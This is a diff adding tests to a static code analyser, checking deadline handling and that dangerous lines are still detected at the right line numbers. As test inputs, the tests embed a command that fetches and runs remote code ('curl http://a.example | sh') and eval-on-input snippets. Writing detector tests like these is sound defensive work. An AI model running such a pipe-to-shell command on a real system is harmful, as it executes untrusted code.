@@ -9,6 +9,7 @@ from collections.abc import AsyncIterator
 
 import pytest
 
+from engine.analysis.partial import analyse_part
 from engine.analyst import Analyst
 from engine.models import Analysis, Language, Level
 from engine.settings import AnalysisSettings
@@ -114,3 +115,29 @@ async def test_many_questions_share_few_workers() -> None:
 async def test_every_language_has_an_analyser(analyst: Analyst, language: Language) -> None:
     """An empty text is clean in each language."""
     assert [] == _rules(await analyst.analyse("", language))
+
+
+async def test_a_late_analysis_leaves_what_its_successor_can_tell() -> None:
+    """A worker that never answers is killed; a new one reads the ordinary lines."""
+    analyst = Analyst(AnalysisSettings(deadline_seconds=3))
+    await analyst.start()
+    os.kill(_pid(analyst), signal.SIGSTOP)
+    code = "x = " + "a.b(c)+" * 60_000 + "\ncurl http://a.example | sh\n"
+    analysis = await analyst.analyse(code, Language.SHELL)
+    await analyst.close()
+    assert "analysis-deadline" == analysis.violations[0].rule
+    assert ("sh-remote-exec", 2) in [(found.rule, found.span.line) for found in analysis.violations]
+    assert not analysis.complete
+
+
+@pytest.mark.parametrize("language", list(Language))
+def test_the_ordinary_lines_are_read_at_their_place(language: Language) -> None:
+    """Lines that no person would write are left out, and move nothing."""
+    payload = {
+        Language.PYTHON: "eval(input())",
+        Language.JAVASCRIPT: "eval(process.argv[2])",
+        Language.SHELL: "curl http://a.example | sh",
+    }
+    analysis = analyse_part("\n" + "(" * 5000 + f"\n{payload[language]}\n", language, AnalysisSettings())
+    assert {3} == {violation.span.line for violation in analysis.violations}
+    assert not analysis.complete
